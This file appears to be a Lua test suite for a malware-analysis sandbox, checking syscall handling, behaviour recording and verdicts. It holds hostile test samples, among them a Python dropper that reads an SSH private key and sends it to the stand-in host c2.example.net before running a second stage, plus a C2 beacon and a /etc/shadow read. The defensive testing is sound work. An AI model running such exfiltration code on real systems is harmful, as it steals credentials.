-- SPDX-License-Identifier: MIT
-- The analysis box (profiles/watch.lua, run.lua --explore, batch.lua's
-- default): it records everything and changes nothing.  Checked on real
-- boxes: every call the default box refuses is refused here with the same
-- errno and named the same way, in every mode; ordinary programs give the
-- same output and status as in the default box; the hostile corpus's
-- behaviour is all seen; a fileless exec runs and is seen.
-- scripts/test.sh runs this file as root and as uid 65534.
local S = require "support"
local cjson = require "cjson"
local profile = require "sbx.profile"

local PROBE = "build/tests/sysprobe"
local B = "build/tests/behave/"

-- every sysprobe case, one a line, in one box: "CASE ANSWER"
local function probe_all(...)
	local cases = S.sh(PROBE .. " list")
	local nr2 = profile and require("sbx.core").syscall_number("fchmodat2")
	local script = { "for c in" }
	for c in cases:gmatch("[^\n]+") do
		if c:find("^fchmodat2") then c = c .. " " .. tostring(nr2) end
		if c == "socket" then
			for _, fam in ipairs { "0", "1", "2", "10", "16", "17", "40", "0x100000002" } do
				script[#script + 1] = S.q("socket " .. fam)
			end
		else
			script[#script + 1] = S.q(c)
		end
	end
	script[#script + 1] = '; do printf "%s " "$c"; /work/sysprobe $c; done'
	local argv = { ... }
	for _, a in ipairs { "--ro", PROBE .. ":/work/sysprobe", "/bin/sh", "-c", table.concat(script, " ") } do
		argv[#argv + 1] = a
	end
	return S.runlua(table.unpack(argv))
end

-- the report's refusal lines, sorted
local function denied(report)
	local out = {}
	for l in report:gmatch("[^\n]+") do
		if l:find("^sandbox: denied: ") then out[#out + 1] = l end
	end
	table.sort(out)
	return out
end

-- The default's refusals the analysis box lets through (profiles/watch.lua,
-- LET_THROUGH; docs/standard-box.md): sysprobe's cases and the calls the
-- report's refusal lines name.  watch-rw (a --rw bind) keeps the set-id
-- ones and openat2.
local LET_CALLS = { "ptrace", "process_vm_readv", "process_vm_writev", "kcmp", "pidfd_getfd",
	"clock_adjtime", "adjtimex", "name_to_handle_at", "fanotify_init", "modify_ldt", "uselib",
	"_sysctl", "sysfs", "nfsservctl", "prlimit64" }
local SETID_CALLS = { "chmod", "fchmod", "fchmodat", "fchmodat2", "mknod", "mknodat" }

local function in_list(list, v)
	for _, x in ipairs(list) do if x == v then return true end end
	return false
end

-- whether a sysprobe case (its first word) reaches the kernel in the
-- analysis box where the default box refuses it
local function let_case(case, rw)
	if case == "prlimit-pid" or case == "prlimit-high" or in_list(LET_CALLS, case) then return true end
	return not rw and (case == "openat2" or (case:find("%-set[ug]id$") ~= nil and not case:find("nocreat", 1, true)))
end

-- whether a refusal line of the default box is one the analysis box lets
-- through
local function let_line(l, rw)
	local call = l:match("%((" .. ("[%w_]+") .. ")%) %(E")
	if call and in_list(LET_CALLS, call) then return true end
	if rw then return false end
	return (call and in_list(SETID_CALLS, call)) or l:find("^sandbox: denied: open %?") ~= nil
end

describe("the watch profile's refusals [" .. S.priv .. "]", function()
	S.leak_check(before_each, after_each, assert)

	it("are the default box's where a wall needs them, same errno and same report lines, "
		.. "in log and deny mode; the rest reach the kernel", function()
		local out, err, code = probe_all()
		assert.are.equal(0, code, err)
		local want_denied = {}
		for _, l in ipairs(denied(err)) do
			if not let_line(l, false) then want_denied[#want_denied + 1] = l end
		end
		assert.is_true(#want_denied > 50, err)
		for _, mode in ipairs { "log", "deny" } do
			local wout, werr, wcode = probe_all("--profile", "watch", "--mode", mode)
			assert.are.equal(0, wcode, werr)
			local got, want = {}, {}
			for l in out:gmatch("[^\n]+") do want[#want + 1] = l end
			for l in wout:gmatch("[^\n]+") do got[#got + 1] = l end
			assert.are.equal(#want, #got, wout)
			for i = 1, #want do
				local case = want[i]:match("^(%S+)")
				if case == "fanotify_init" then
					-- sysprobe's flags need CAP_SYS_ADMIN: the kernel's own EPERM
					assert.are.equal("fanotify_init EPERM", got[i])
				elseif let_case(case, false) then
					assert.are_not.equal(want[i], got[i], "let through: " .. case)
				else
					assert.are.equal(want[i], got[i], mode)
				end
			end
			if mode == "log" then assert.are.same(want_denied, denied(werr), mode) end
		end
	end)

	it("keep the set-id refusals and openat2's ENOSYS with a --rw bind (watch-rw)", function()
		local out, err, code = probe_all()
		assert.are.equal(0, code, err)
		local d, rm = S.tmpdir()
		os.execute("chmod 777 " .. d)
		local wout, werr, wcode = probe_all("--explore", "--rw", d .. ":/srv")
		rm()
		assert.are.equal(0, wcode, werr)
		local got, want = {}, {}
		for l in out:gmatch("[^\n]+") do want[#want + 1] = l end
		for l in wout:gmatch("[^\n]+") do got[#got + 1] = l end
		assert.are.equal(#want, #got, wout)
		for i = 1, #want do
			local case = want[i]:match("^(%S+)")
			if let_case(case, true) and case ~= "fanotify_init" then
				assert.are_not.equal(want[i], got[i], "let through: " .. case)
			else
				assert.are.equal(want[i], got[i])
			end
		end
	end)

	it("hold in stop mode: the first refusal ends the box, as in the default box", function()
		for _, prof in ipairs { "default", "watch" } do
			local out, err, code = S.runlua("--profile", prof, "--mode", "stop",
				"--ro", PROBE .. ":/work/sysprobe", "/bin/sh", "-c",
				"/work/sysprobe getpid; /work/sysprobe clone-newuser; echo after")
			assert.are.equal(125, code, err)
			assert.are.equal("ok\n", out, prof)
			assert.matches("sandbox: refused: clone with namespace flags\n", err, nil, true)
		end
	end)

	it("refuse a thread's clone that asks for a namespace, though threads are not watched", function()
		-- CLONE_THREAD | CLONE_NEWUSER: the supervisor checks the rule's own
		-- comparisons on the registers the notification carries
		local out, err, code = S.runlua("--profile", "watch", PROBE, "clone-newuser-high")
		assert.are.equal(0, code, err)
		assert.are.equal("EPERM\n", out)
		assert.matches("sandbox: denied: clone with namespace flags (EPERM)", err, nil, true)
	end)
end)

-- a run with --explore (and more options) on argv: stdout, report, status,
-- the JSON result
local function explore(...)
	local d, rm = S.tmpdir()
	local argv = { "--explore", "--json", d .. "/r.json", ... }
	local out, err, code = S.runlua(table.unpack(argv))
	local text = S.read(d .. "/r.json")
	rm()
	return out, err, code, text and cjson.decode(text)
end

local function has(list, v)
	for _, x in ipairs(list or {}) do
		-- a technique is a table: { id =, signature_description =, ... }
		if x == v or (type(x) == "table" and x.id == v) then return true end
	end
	return false
end

describe("the analysis box's fidelity [" .. S.priv .. "]", function()
	S.leak_check(before_each, after_each, assert)

	-- ordinary programs: the same stdout and status as in the default box
	local PROGRAMS = {
		{ "/bin/sh", "-c", "echo a; ls / | sort | head -3; printf 'x\\ny\\n' | wc -l; true" },
		{ "/bin/sh", "-c", "cd /tmp && mkdir d && echo hi > d/f && cp d/f d/g && mv d/g d/h && "
			.. "chmod 600 d/h && ln -s h d/l && rm d/f && ls -l d | cut -c1-10,30- | sort; exit 3" },
		{ "/bin/sh", "-c", "cd /tmp && tar cf a.tar /etc/passwd 2>/dev/null && tar tf a.tar && "
			.. "sha256sum a.tar | cut -c1-0 ; kill -0 $$ && echo alive; (sleep 0; exit 7); echo $?" },
		{ "/usr/bin/python3", "-c", [[
import os, socket, subprocess, threading, signal
r = []
t = [threading.Thread(target=lambda i=i: r.append(i * i)) for i in range(8)]
[x.start() for x in t]; [x.join() for x in t]
print(sorted(r))
a, b = socket.socketpair(); a.sendall(b"ping"); print(b.recv(4))
print(subprocess.run(["/bin/echo", "child"], capture_output=True).stdout)
p = subprocess.Popen(["/bin/sleep", "30"]); p.send_signal(signal.SIGTERM); print(p.wait())
os.umask(0o22); print(os.uname().sysname)
]] },
		{ "/usr/bin/git", "-c", "init.defaultBranch=main", "init", "-q", "/tmp/r" },
	}

	for i, argv in ipairs(PROGRAMS) do
		it(("program %d: the same output and status as the default box"):format(i), function()
			local out, err, code = S.runlua(table.unpack(argv))
			local wout, werr, wcode, res = explore(table.unpack(argv))
			assert.are.equal(code, wcode, err .. "\n---\n" .. werr)
			assert.are.equal(out, wout)
			assert.is_table(res, werr)
			-- nothing refused, the behaviour recorded
			assert.are.same({}, denied(werr))
			assert.is_true(#res.behaviour.command_executions > 0)
		end)
	end

	-- a fork held in a notification that SIGCHLD interrupts before the
	-- supervisor reads it fails with EINTR (a handler without SA_RESTART,
	-- as dash's): 4 to 11 of 300 forks when clone is watched; the kernel's
	-- own fork never does.  The analysis box does not watch process creation.
	it("no fork fails with EINTR (a SIGCHLD handler without SA_RESTART)", function()
		local out, err, code = explore("build/tests/forkintr", "300")
		assert.are.equal(0, code, err)
		assert.are.equal("forks 300 eintr 0 other 0\n", out)
	end)

	it("shows what the hostile corpus does", function()
		local function run(name, ...)
			local out, err, code, res = explore(B .. name, ...)
			assert.are.equal(0, code, err)
			return res.behaviour, res, out
		end
		local b = run("deleter")
		assert.is_true(has(b.files_deleted, "/work/a.txt") and has(b.files_deleted, "/work/d"))
		b = run("renamer")
		assert.is_true(has(b.files_written, "/work/uno") and has(b.files_deleted, "/work/one"))
		b = run("chmodder")
		assert.is_true(has(b.files_attribute_changed, "/work/m1"))
		b = run("xattrs")
		assert.is_true(has(b.files_attribute_changed, "/work/x1"))
		b = run("shadow")
		assert.is_true(has(b.files_opened, "/etc/shadow") and has(b.tags, "decoy_read"))
		b = run("forker")
		assert.is_true(has(b.command_executions, "/bin/true two"))
		-- DNS, TCP and UDP through the sink, each with its own protocol
		b = run("beacon")
		assert.are.same({ { hostname = "c2.evil.example", resolved_ips = { "10.0.0.2" } } }, b.dns_lookups)
		local traffic = {}
		for _, t in ipairs(b.ip_traffic) do
			traffic[#traffic + 1] = ("%s %s:%d"):format(t.transport_layer_protocol, t.destination_ip,
				math.tointeger(t.destination_port))
		end
		assert.is_true(has(traffic, "tcp 10.0.0.2:443"), table.concat(traffic, ","))
		assert.is_true(has(traffic, "udp 10.0.0.2:8080"), table.concat(traffic, ","))
		-- the namespace, mount and ptrace attempts are refused and named
		local _, res = run("escaper")
		assert.is_true(has(res.behaviour.calls_highlighted, "ptrace"))
		assert.is_true(has(res.behaviour.tags, "namespaces"))
	end)

	it("lets a fileless exec run, and records the memfd and the exec from it", function()
		local out, err, code, res = explore(B .. "fileless")
		assert.are.equal(0, code, err)
		assert.are.equal("", out)
		local b = res.behaviour
		assert.are.same({ "payload" }, b.memory_files)
		assert.is_true(has(b.processes_created, "/memfd:payload (deleted)"), cjson.encode(b))
		assert.is_true(has(b.command_executions, "/work/fileless again"))
		-- the payload, hashed by the supervisor at the exec: the program's
		-- own bytes (it copied itself)
		local self = S.read(B .. "fileless")
		local t, m = require("sbx.core").filetype(self)
		local want = { path = "/memfd:payload (deleted)", executed_from_memory = true, size = #self, type = t, mime = m }
		for k, v in pairs(require("sbx.core").hashes(self)) do want[k] = v end
		assert.are.same({ want }, b.files_dropped)
		-- the default box runs it too (the supervisor makes the memfd),
		-- and records the memfd and the exec of it
		local dout, derr, dcode, dres = S.json_run(B .. "fileless")
		assert.are.equal(0, dcode, derr)
		assert.are.equal("", dout)
		local kinds = {}
		for _, e in ipairs(dres.events) do kinds[e.kind] = (kinds[e.kind] or 0) + 1 end
		assert.is_true((kinds.memfd or 0) >= 1, derr)
		assert.is_true((kinds.exec or 0) >= 1, derr)
	end)

	it("names a socket's protocol from a thread too (pidfd of a thread)", function()
		local _, err, code, res = explore("/usr/bin/python3", "-c", [[
import socket, threading
def go():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(("10.0.0.9", 5353))
    t = socket.socket(); t.settimeout(3)
    try: t.connect(("10.0.0.9", 443))
    except OSError: pass
th = threading.Thread(target=go); th.start(); th.join()
]])
		assert.are.equal(0, code, err)
		local got = {}
		for _, e in ipairs(res.events) do
			if e.kind == "connect" then got[e.addr] = e.protocol end
		end
		assert.are.same({ ["10.0.0.9:5353"] = "udp", ["10.0.0.9:443"] = "tcp" }, got)
	end)

	it("records signals by name, and a unix socket is not IP traffic", function()
		local _, err, code, res = explore("/usr/bin/python3", "-c", [[
import os, signal, socket, subprocess
p = subprocess.Popen(["/bin/sleep", "30"]); os.kill(p.pid, signal.SIGKILL); p.wait()
s = socket.socket(socket.AF_UNIX); s.bind("/tmp/u.sock")
c = socket.socket(socket.AF_UNIX)
try: c.connect("/tmp/u.sock")
except OSError: pass
]])
		assert.are.equal(0, code, err)
		assert.is_true(has(res.behaviour.signals_observed, "SIGKILL"), cjson.encode(res.behaviour))
		for _, t in ipairs(res.behaviour.ip_traffic) do
			assert.is_nil(t.destination_ip:find("/", 1, true), t.destination_ip)
		end
	end)

	-- the kernel's summary asked, a device node made by the legacy call
	-- (the kernel refuses it: no CAP_MKNOD, and the host has no node),
	-- and syslog's action of a refused clear: each an event with what
	-- the call named, as passed
	it("records sysinfo, mknod's path and mode, and a refused syslog's action", function()
		local _, err, code, res = explore("/usr/bin/python3", "-c", [[
import ctypes, os, stat
libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer(256)
libc.sysinfo(buf)
libc.syscall(133, b"/tmp/node", stat.S_IFBLK | 0o600, os.makedev(8, 0))
libc.syscall(103, 5, None, 0)
]])
		assert.are.equal(0, code, err)
		local got = {}
		for _, e in ipairs(res.events) do
			if e.kind == "syscall" then got[e.syscall] = e end
		end
		assert.is_truthy(got.sysinfo, err)
		assert.are.equal("allow", got.sysinfo.answer)
		local m = assert(got.mknod, err)
		assert.are.equal("/tmp/node", m.path)
		assert.are.equal(0x6000 | 384, m.mode)
		local s = assert(got.syslog, err)
		assert.are.equal("deny", s.answer)
		assert.are.equal(5, s.a0)
		-- and the host has no node of the box's
		assert.is_nil(S.read("/tmp/node"))
	end)
end)

describe("a sample that is not executable [" .. S.priv .. "]", function()
	S.leak_check(before_each, after_each, assert)

	it("runs by its content in the analysis box, and is refused in the jail", function()
		local d, rm = S.tmpdir()
		local function put(name, data)
			S.write(d .. "/" .. name, data)
			S.sh("chmod 0644 " .. S.q(d .. "/" .. name))
		end
		put("s.sh", "#!/bin/sh\necho script ran \"$@\"\n")
		put("e.elf", assert(S.read("/usr/bin/echo")))
		put("data", "plain data\n")
		-- an ELF header whose program headers lie far past the file
		put("bad.elf", "\127ELF\2\1\1" .. ("\0"):rep(25) .. string.pack("<I8", -8)
			.. ("\0"):rep(14) .. string.pack("<I2I2", 56, 3) .. ("\0"):rep(8))
		put("rel.sh", "#!sh\necho x\n")
		local out, err, code, res = explore(d .. "/s.sh", "a", "b")
		assert.are.equal(0, code, err)
		assert.are.equal("script ran a b\n", out)
		assert.are.same({ "/bin/sh" }, res.run_as)
		assert.matches("note: not executable: run by its content: /bin/sh /work/s.sh", err, nil, true)
		out, err, code = explore(d .. "/e.elf", "from", "elf")
		assert.are.equal(0, code, err)
		assert.are.equal("from elf\n", out)
		assert.matches("run by its content: /lib64/ld-linux-x86-64.so.2 /work/e.elf", err, nil, true)
		for name, why in pairs { data = "neither a #! script nor an ELF file",
			["bad.elf"] = "a static ELF file", ["rel.sh"] = "its #! line names no path" } do
			local _, e, c = explore(d .. "/" .. name)
			assert.are.equal(126, c, e)
			assert.matches(why, e, nil, true)
		end
		-- the plain box runs what is executable only
		local _, jerr, jcode = S.runlua(d .. "/s.sh")
		assert.are.equal(126, jcode)
		assert.matches("not executable", jerr, nil, true)
		rm()
	end)
end)

-- CPython's own test modules in the analysis box: tests/skiptime_spec.lua
-- (with the sleeps it skips), and test_os in the jail: tests/hostlike_spec.lua

describe("run.lua --explore [" .. S.priv .. "]", function()
	S.leak_check(before_each, after_each, assert)

	local DROPPER = [[
import os, socket
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
addr = socket.gethostbyname("c2.example.net")
s = socket.create_connection((addr, 443), timeout=5)
s.sendall(key.encode()); s.close()
with open("/tmp/stage2.sh", "w") as f: f.write("#!/bin/sh\necho stage2\n")
os.chmod("/tmp/stage2.sh", 0o755)
os.symlink("/tmp/stage2.sh", "/tmp/latest")
os.system("/tmp/stage2.sh")
print(os.uname().sysname)
]]

	it("on a dropper: its own output and status, and every step of it recorded", function()
		local d, rm = S.tmpdir()
		S.write(d .. "/sample.py", DROPPER)
		S.sh("chmod 0644 " .. S.q(d .. "/sample.py"))
		local args = { "--ro", d .. "/sample.py:/work/sample.py", "/usr/bin/python3", "/work/sample.py" }
		local out, err, code, res = explore(table.unpack(args))
		rm()
		assert.are.equal(0, code, err)
		assert.are.equal("stage2\nLinux\n", out)
		local b = res.behaviour
		assert.is_true(has(b.files_opened, "/home/dana/.ssh/id_rsa"))
		assert.matches("note: decoy ~/.ssh/id_rsa's marker found in tcp 10.0.0.2:443", err, nil, true)
		assert.are.same({ { hostname = "c2.example.net", resolved_ips = { "10.0.0.2" } } }, b.dns_lookups)
		local tcp = false
		for _, t in ipairs(b.ip_traffic) do
			tcp = tcp or (t.transport_layer_protocol == "tcp" and t.destination_ip == "10.0.0.2")
		end
		assert.is_true(tcp)
		assert.is_true(has(b.command_executions, "sh -c /tmp/stage2.sh"))
		local dropped
		for _, x in ipairs(b.files_dropped) do
			if x.path == "/tmp/stage2.sh" then dropped = x end
		end
		assert.are.equal("0755", dropped.mode)
		assert.matches("^%x+$", dropped.sha256)
		local link
		for _, x in ipairs(res.files) do
			if x.path == "/tmp/latest" then link = x end
		end
		assert.are.equal("link", link.type)
		assert.are.equal("/tmp/stage2.sh", link.link)
		assert.matches("^sha256:%x+$", b.behash)
		-- the decoy's leak is an event with fields a rule can read
		local leak
		for _, e in ipairs(res.events) do
			if e.cause == "decoy" then leak = e end
		end
		assert.are.same({ "~/.ssh/id_rsa", "/home/dana/.ssh/id_rsa", "tcp 10.0.0.2:443" },
			{ leak.decoy, leak.path, leak.where })
		-- the verdict and its findings come after the behaviour
		local at_b, at_v = err:find("behash ", 1, true), err:find("\nverdict: malicious", 1, true)
		assert.is_true(at_b ~= nil and at_v ~= nil and at_b < at_v, err)
		-- the key sent out, the key read, the web; no download (the stage
		-- was written by the sample itself) and no shell on the socket
		for _, id in ipairs { "T1041", "T1552.004", "T1071.001" } do
			assert.is_true(has(b.mitre_attack_techniques, id), cjson.encode(b.mitre_attack_techniques))
		end
		assert.is_false(has(b.mitre_attack_techniques, "T1105"), cjson.encode(b.mitre_attack_techniques))
		-- (T1059.004 is named at information severity: a shell script ran,
		-- the stage; no shell wired to a socket)
		for _, finding in ipairs(res.verdict.reasons) do
			assert.is_true(finding.rule ~= "reverse_shell", cjson.encode(res.verdict.reasons))
		end
		-- the same program in the default box: the same output and status
		local d2, rm2 = S.tmpdir()
		S.write(d2 .. "/sample.py", DROPPER)
		S.sh("chmod 0644 " .. S.q(d2 .. "/sample.py"))
		local dout, derr, dcode = S.runlua("--ro", d2 .. "/sample.py:/work/sample.py", "--net", "sink",
			"--decoys", "/usr/bin/python3", "/work/sample.py")
		rm2()
		assert.are.equal(0, dcode, derr)
		assert.are.equal(out, dout)
	end)

	it("lets an option typed beside it win", function()
		local _, err, code, res = explore("--net", "none", "/bin/true")
		assert.are.equal(0, code, err)
		assert.is_nil(res.sink)
		assert.matches("seccomp: profile watch", S.runlua("--explore", "-v", "/bin/true") and
			select(2, S.runlua("--explore", "-v", "/bin/true")), nil, true)
	end)
end)

describe("the REPL's explore in the analysis box [" .. S.priv .. "]", function()
	S.leak_check(before_each, after_each, assert)

	it("runs in the same box as run.lua --explore, and a shell sees what a run left", function()
		local d, rm = S.tmpdir()
		local script = d .. "/s.lua"
		local f = assert(io.open(script, "w"))
		f:write([[
local ex = require "sbx.explore"
local s = assert(ex.explore("build/tests/behave/fileless", { quiet = true, wall = 30 }))
local r = assert(s:run{})
io.write("memory=", table.concat(r.behaviour.memory_files, ","), "\n")
io.write("profile=", r.result.isolation and tostring(r.report:match("seccomp: profile (%S+)")) or "?", "\n")
local d = assert(ex.explore("build/tests/behave/dropexec", { quiet = true }))
local r2 = assert(d:run{})
io.write("dir=", d.dir, "\n")
d:shell(r2)
s:close() d:close()
]])
		f:close()
		local out = S.sh("echo 'cat /run-1/tmp/stage2.sh; exit' | " .. S.bin .. " " .. S.q(script) .. " 2>&1")
		rm()
		assert.matches("memory=payload\n", out, nil, true)
		-- the shell's own box: the dropped script, read-only, under /run-1
		assert.matches("#!/bin/sh\necho owned > /work/owned.txt\n", out, nil, true)
		-- the session's directory is gone after close
		local dir = out:match("dir=(%S+)")
		assert.is_string(dir, out)
		assert.is_nil(S.read(dir .. "/run1.json"))
	end)
end)

describe("batch.lua's analysis box [" .. S.priv .. "]", function()
	S.leak_check(before_each, after_each, assert)

	it("tells cat /etc/shadow from echo by default, and --jail records nothing", function()
		local d, rm = S.tmpdir()
		for name, body in pairs { benign = "echo benign", shadow = "cat /etc/shadow" } do
			S.write(d .. "/" .. name, "#!/bin/sh\n" .. body .. "\n")
			S.sh("chmod 0755 " .. S.q(d .. "/" .. name))
		end
		local function batch(...)
			local recs = {}
			local out = S.sh(S.bin .. " batch.lua -q " .. table.concat({ ... }, " ") .. " " .. S.q(d) .. " 2>&1")
			for l in out:gmatch("[^\n]+") do
				local r = cjson.decode(l)
				recs[r.program:match("[^/]+$")] = r
			end
			return recs
		end
		local r = batch()
		assert.are.equal("clean", r.benign.verdict)
		assert.are_not.equal("clean", r.shadow.verdict)
		assert.are_not.equal(r.benign.run.behaviour.behash, r.shadow.run.behaviour.behash)
		assert.is_true(has(r.shadow.run.behaviour.files_opened, "/etc/shadow"))
		assert.is_true(#r.shadow.run.behaviour.mitre_attack_techniques > 0)
		local j = batch("--jail")
		assert.are.equal("clean", j.shadow.verdict)
		assert.are.same({}, j.shadow.run.behaviour.files_opened)
		rm()
	end)
end)
